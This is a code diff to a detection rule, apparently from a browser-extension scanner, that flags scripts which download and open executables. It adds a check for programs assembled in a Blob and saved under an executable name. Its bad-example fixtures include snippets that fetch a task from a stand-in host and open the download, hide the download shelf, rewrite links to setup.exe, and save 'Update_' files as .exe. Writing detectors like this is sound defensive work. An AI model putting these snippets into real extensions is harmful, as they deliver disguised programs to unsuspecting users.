@@ -1,4 +1,4 @@
-import { callsOf, Op, pattern, propertyOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { callsNamed, callsOf, Op, pattern, propertyOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { tagOf } from './codeRuns.ts';
@@ -26,6 +26,11 @@ export const opensDownloadedProgram = defineRule({
         if (leadsOut(to) && PROGRAM.test(to) && tagOf(script, write.object) !== 'a') yield hit(write.value, { evidence: to, message: 'Links of pages are made to lead to this program.' });
       }
     }
+    // A file that the script puts together itself and gives a program's name.
+    for (const write of few(writesOf(script, 'download'), 60)) {
+      const name = pattern(script, write.value);
+      if (PROGRAM.test(name) && callsOf(script, 'Blob').length > 0 && callsNamed(script, 'click', 'dispatchEvent').length > 0) yield hit(write.value, { evidence: name, message: 'The program is put together in the page and saved under this name.' });
+    }
     const opens = callsOf(script, 'chrome.downloads.open', 'chrome.downloads.acceptDanger');
     for (const call of callsOf(script, 'chrome.downloads.download')) {
       const address = propertyOf(script, call.args[0] ?? 0, 'url');
@@ -43,8 +48,10 @@ export const opensDownloadedProgram = defineRule({
       backgroundExample('fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));'),
       backgroundExample('fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });'),
       contentExample('document.querySelectorAll("a[download]").forEach((a) => { a.href = "https://get.example/setup.exe?n=" + a.textContent; });'),
+      contentExample('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([bytes])); a.download = "Update_" + Date.now() + ".exe"; a.click();'),
     ],
     good: [
+      contentExample('const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([text])); a.download = document.title + ".md"; a.click();'),
       contentExample('const a = document.createElement("a"); a.href = "https://tool.example/helper.exe"; a.textContent = "Install the helper"; panel.append(a);'),
       backgroundExample('fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));'),
       backgroundExample('chrome.downloads.download({ url: canvas.toDataURL(), filename: "shot.png" });'),
